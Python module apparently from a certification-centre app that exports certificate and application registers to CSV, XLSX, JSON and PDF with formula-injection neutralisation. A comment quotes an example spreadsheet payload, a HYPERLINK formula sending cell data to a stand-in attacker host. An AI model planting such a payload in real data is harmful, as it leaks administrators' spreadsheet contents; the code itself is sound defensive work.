"""Register exports: issued certificates and applications, filtered, to CSV, XLSX (streamed, bounded memory) and
the certificate register as JSON for a national registry. Rows come from one query each, read in chunks."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import date, timedelta
from typing import Any

from sqlalchemy import Select, func, select

from certcenter.applications.models import Application
from certcenter.candidates.models import CandidateProfile
from certcenter.certificates.models import Certificate
from certcenter.certificates.services import public_record
from certcenter.extensions import db
from certcenter.framework.models import FrameworkLevel
from certcenter.qualifications.models import Qualification

CHUNK = 2000
DATASETS = ("certificates", "applications")
FORMATS = ("csv", "xlsx", "json", "pdf")

CERTIFICATE_COLUMNS = [
    "number",
    "holder",
    "holder_latin",
    "qualification_code",
    "qualification_kk",
    "qualification_ru",
    "nqf_level",
    "eqf_level",
    "issued_on",
    "expires_on",
    "status",
]
APPLICATION_COLUMNS = [
    "application",
    "candidate",
    "qualification_code",
    "nqf_level",
    "state",
    "submitted_at",
    "eligibility",
    "created_at",
]


def _day(value: str | None) -> date | None:
    return date.fromisoformat(value) if value else None


def certificate_query(filters: dict[str, Any]) -> Select:
    statement = select(Certificate).order_by(Certificate.id)
    if filters.get("date_from"):
        statement = statement.where(Certificate.issued_on >= _day(filters["date_from"]))
    if filters.get("date_to"):
        statement = statement.where(Certificate.issued_on <= _day(filters["date_to"]))
    if filters.get("level"):
        statement = statement.where(Certificate.nqf_level == int(filters["level"]))
    if filters.get("qualification"):
        statement = statement.where(Certificate.qualification_code == filters["qualification"])
    if filters.get("status"):
        statement = statement.where(Certificate.status == filters["status"])
    return statement


def application_query(filters: dict[str, Any]) -> Select:
    statement = (
        select(
            Application.id,
            CandidateProfile.full_name,
            Qualification.code,
            FrameworkLevel.number,
            Application.state,
            Application.submitted_at,
            Application.eligibility_status,
            Application.created_at,
        )
        .join(CandidateProfile, Application.candidate_id == CandidateProfile.id)
        .join(Qualification, Application.qualification_id == Qualification.id)
        .join(FrameworkLevel, Qualification.level_id == FrameworkLevel.id)
        .order_by(Application.id)
    )
    if filters.get("date_from"):
        statement = statement.where(Application.created_at >= _day(filters["date_from"]))
    if filters.get("date_to"):
        statement = statement.where(Application.created_at < _day(filters["date_to"]) + timedelta(days=1))
    if filters.get("level"):
        statement = statement.where(FrameworkLevel.number == int(filters["level"]))
    if filters.get("qualification"):
        statement = statement.where(Qualification.code == filters["qualification"])
    if filters.get("status"):
        statement = statement.where(Application.state == filters["status"])
    return statement


def count_query(dataset: str, filters: dict[str, Any]) -> Select:
    query = certificate_query(filters) if dataset == "certificates" else application_query(filters)
    return select(func.count()).select_from(query.order_by(None).subquery())


def rows(dataset: str, filters: dict[str, Any]) -> tuple[list[str], Iterator[list[Any]]]:
    if dataset == "certificates":

        def certificate_rows() -> Iterator[list[Any]]:
            for c in db.session.scalars(certificate_query(filters).execution_options(yield_per=CHUNK)):
                yield [
                    c.number,
                    c.holder_name,
                    c.holder_name_latin,
                    c.qualification_code,
                    c.qualification_title.get("kk"),
                    c.qualification_title.get("ru"),
                    c.nqf_level,
                    c.eqf_level,
                    c.issued_on.isoformat(),
                    c.expires_on.isoformat(),
                    c.current_status(),
                ]

        return CERTIFICATE_COLUMNS, certificate_rows()

    def application_rows() -> Iterator[list[Any]]:
        for row in db.session.execute(application_query(filters).execution_options(yield_per=CHUNK)):
            yield [
                row[0],
                row[1],
                row[2],
                row[3],
                row[4],
                row[5].isoformat() if row[5] else None,
                row[6],
                row[7].isoformat(),
            ]

    return APPLICATION_COLUMNS, application_rows()


# A spreadsheet takes a cell that begins with one of these as a formula (or, for tab and carriage return, shifts
# it into one): a candidate named =HYPERLINK("http://evil.example/?x="&A1,"Click") would be a live link in the
# administrator's spreadsheet. OWASP's CSV injection guidance: prefix such a cell with a single quote.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """A text cell as a spreadsheet shows it as text; numbers, dates and None unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def to_csv(columns: list[str], data: Iterator[list[Any]]) -> bytes:
    """UTF-8 with a byte-order mark, so that spreadsheet programs read the Kazakh letters right."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(columns)
    writer.writerows([neutralise(value) for value in row] for row in data)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def to_xlsx(columns: list[str], data: Iterator[list[Any]]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES

    workbook = Workbook(write_only=True)  # rows are streamed to the file, not kept as cells
    sheet = workbook.create_sheet("register")
    sheet.append(columns)

    def cell(value: Any) -> Any:
        # openpyxl writes a string that begins with "=" as a formula (none is left once neutralised) and one that
        # reads "#N/A", "#REF!"... as an error value: those few become text cells explicitly
        value = neutralise(value)
        if isinstance(value, str) and value in ERROR_CODES:
            text = WriteOnlyCell(sheet, value)
            text.data_type = "s"
            return text
        return value

    for row in data:
        sheet.append([cell(value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def register_json(filters: dict[str, Any]) -> bytes:
    records = (
        public_record(c) for c in db.session.scalars(certificate_query(filters).execution_options(yield_per=CHUNK))
    )
    return json.dumps({"register": list(records)}, ensure_ascii=False, indent=1).encode("utf-8")


def export(dataset: str, fmt: str, filters: dict[str, Any], progress=None) -> tuple[bytes, str, str]:
    """The file, its name and its media type."""
    if fmt == "json":
        return register_json(filters), "certificate-register.json", "application/json"
    if fmt == "pdf":
        from certcenter.reports.register_pdf import register_pdf

        return register_pdf(dataset, filters, progress=progress), f"{dataset}-register.pdf", "application/pdf"
    columns, data = rows(dataset, filters)
    if fmt == "xlsx":
        return (
            to_xlsx(columns, data),
            f"{dataset}.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        )
    return to_csv(columns, data), f"{dataset}.csv", "text/csv"
